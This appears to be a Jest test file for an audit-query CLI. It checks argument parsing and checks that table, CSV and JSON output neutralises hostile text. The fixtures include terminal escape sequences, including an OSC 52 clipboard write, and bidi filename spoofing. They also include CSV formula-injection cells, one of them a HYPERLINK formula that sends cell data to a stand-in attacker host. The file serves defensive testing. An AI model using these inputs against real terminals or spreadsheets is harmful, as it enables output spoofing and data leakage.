import { parseInstant, parseObjectRef, parseFormat, UsageError } from '../../query/args';
import { isoMicros } from '../../query/history';
import { render } from '../../query/format';
import { csvSafe, jsonTerminalSafe, terminalSafe } from '../../config/safe-text';
import { oneLine } from '../../config/bin';

describe('audit-query arguments', () => {
  it('splits TYPE:ID on the first colon only', () => {
    expect(parseObjectRef('invoice:42')).toEqual({ type: 'invoice', id: '42' });
    expect(parseObjectRef("doc:a:b/c'd")).toEqual({ type: 'doc', id: "a:b/c'd" });
    expect(() => parseObjectRef('invoice')).toThrow(UsageError);
    expect(() => parseObjectRef(':42')).toThrow(UsageError);
    expect(() => parseObjectRef('invoice:')).toThrow(UsageError);
  });

  it('parses ISO-8601 dates and times to microseconds, refusing impossible ones', () => {
    expect(parseInstant('--since', '2026-01-02')).toBe(Date.UTC(2026, 0, 2) * 1000);
    expect(parseInstant('--until', '2026-01-02', true)).toBe(Date.UTC(2026, 0, 3) * 1000 - 1);
    expect(parseInstant('--since', '2026-01-02T03:04:05Z')).toBe(Date.UTC(2026, 0, 2, 3, 4, 5) * 1000);
    expect(parseInstant('--since', '2026-01-02T03:04:05.123456Z')).toBe(Date.UTC(2026, 0, 2, 3, 4, 5, 123) * 1000 + 456);
    expect(parseInstant('--since', '2026-01-02T05:04:05+02:00')).toBe(Date.UTC(2026, 0, 2, 3, 4, 5) * 1000);
    for (const bad of ['tomorrow', '2026-02-30', '2026-13-01', '01/02/2026', '']) {
      expect(() => parseInstant('--since', bad)).toThrow(UsageError);
      expect(() => parseInstant('--until', bad, true)).toThrow(UsageError);
    }
  });

  it('formats microsecond instants', () => {
    expect(isoMicros(BigInt(Date.UTC(2026, 0, 2, 3, 4, 5, 123)) * 1000n + 456n)).toBe('2026-01-02T03:04:05.123456Z');
  });

  it('chooses table on a TTY and ndjson otherwise', () => {
    expect(parseFormat(undefined, true)).toBe('table');
    expect(parseFormat(undefined, false)).toBe('ndjson');
    expect(() => parseFormat('xml', true)).toThrow(/--format must be one of/);
  });

  it('renders csv with RFC 4180 quoting and empty results as the contract says', () => {
    expect(render([{ a: 'x,"y"', b: { c: 1 } }], 'csv')).toBe('a,b\r\n"x,""y""","{""c"":1}"\r\n');
    expect(render([], 'json')).toBe('[]\n');
    expect(render([], 'ndjson')).toBe('');
    expect(render([], 'csv')).toBe('');
  });

  describe('output that is safe to look at', () => {
    /** Anything a terminal acts on or that reorders text: C0 but \n, DEL, C1, bidi and zero-width format characters. */
    const ACTIVE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/;
    const HOSTILE_TEXT = [
      '\u001b[2J\u001b[1;1Hall clear', // clear the screen, cursor home
      '\u001b]0;title\u0007', // OSC: window title, ended by BEL
      '\u001b]52;c;cGF5bG9hZA==\u0007', // OSC 52: write the clipboard
      'admin\rroot', // CR: overwrite the line
      'adminn\b\broot', // backspaces
      '\u009b2J c1 CSI',
      'bidi \u202Egnp.exe\u202C',
      'isolate \u2067x\u2069 and \u200Fmark',
      'line\nbreak\u2028sep',
      '\u0000nul \u007fdel',
    ];

    it('terminalSafe escapes every control and reordering character, visibly', () => {
      for (const t of HOSTILE_TEXT) {
        const safe = terminalSafe(t);
        expect({ t, active: ACTIVE.test(safe) || safe.includes('\n') }).toEqual({ t, active: false });
      }
      expect(terminalSafe('\u001b[2Jx\r\u0007\b\t\n')).toBe('\\e[2Jx\\r\\a\\b\\t\\n');
      expect(terminalSafe('\u009b \u202E \u0000 \u007f')).toBe('\\x9B \\u202E \\x00 \\x7F');
      expect(terminalSafe('plain ünïcødé 😀 שלום a\\b')).toBe('plain ünïcødé 😀 שלום a\\b');
    });

    it('table output escapes them in cells and column names, one row per line', () => {
      const rows = HOSTILE_TEXT.map((t, i) => ({ i, actor: t, '\u001b[31mcol': t }));
      const out = render(rows, 'table');
      expect(ACTIVE.test(out)).toBe(false);
      expect(out.split('\n').filter(Boolean)).toHaveLength(2 + rows.length);
      expect(out).toContain('\\e[2J\\e[1;1Hall clear');
      expect(out).toContain('\\u202Egnp.exe');
      expect(out).toContain('\\e[31mcol');
    });

    it('csv neutralises formula cells (OWASP) and leaves numbers and plain text alone', () => {
      const cells = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '-2+3', '+1+1', '@SUM(A1:A9)', '\t=1', '\r=1', '=1+1', 'ok', '-5', '+1.5e3', '3', '-', 'x=1', "'quoted"];
      const out = render(cells.map((c) => ({ c })), 'csv');
      const rows = out.split('\r\n').slice(1, -1);
      expect(rows).toEqual([
        `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`,
        "'-2+3",
        "'+1+1",
        "'@SUM(A1:A9)",
        "'\t=1",
        "'\\r=1",
        "'=1+1",
        'ok',
        '-5',
        '+1.5e3',
        '3',
        "'-",
        'x=1',
        "'quoted",
      ]);
      // Header names are cells too.
      expect(render([{ '=cmd': 1 }], 'csv')).toBe("'=cmd\r\n1\r\n");
    });

    it('csv keeps line breaks inside quoted cells and escapes terminal controls', () => {
      expect(render([{ a: 'two\nlines', b: '\u001b[2Jx', c: 'r\u202Etl' }], 'csv')).toBe('a,b,c\r\n"two\nlines",\\e[2Jx,r\\u202Etl\r\n');
      expect(csvSafe('\u0007')).toBe('\\a');
    });

    it('json and ndjson stay raw values for machine readers, with nothing active on the screen', () => {
      const rows = HOSTILE_TEXT.map((t) => ({ actor: t, f: '=HYPERLINK("x")' }));
      for (const format of ['json', 'ndjson'] as const) {
        const out = render(rows, format);
        expect(ACTIVE.test(out)).toBe(false);
        const back = format === 'json' ? (JSON.parse(out) as unknown[]) : out.split('\n').filter(Boolean).map((l) => JSON.parse(l) as unknown);
        expect(back).toEqual(rows);
      }
      expect(jsonTerminalSafe(JSON.stringify({ a: '\u202E' }, null, 2))).toBe('{\n  "a": "\\u202e"\n}');
    });

    it('error lines (oneLine) are one line with stored text escaped', () => {
      expect(oneLine("Conversion Error: Could not convert string '\u001b[2J\rroot' to INT32\n  LINE 1: ...")).toBe("Conversion Error: Could not convert string '\\e[2J\\rroot' to INT32 LINE 1: ...");
    });
  });
});
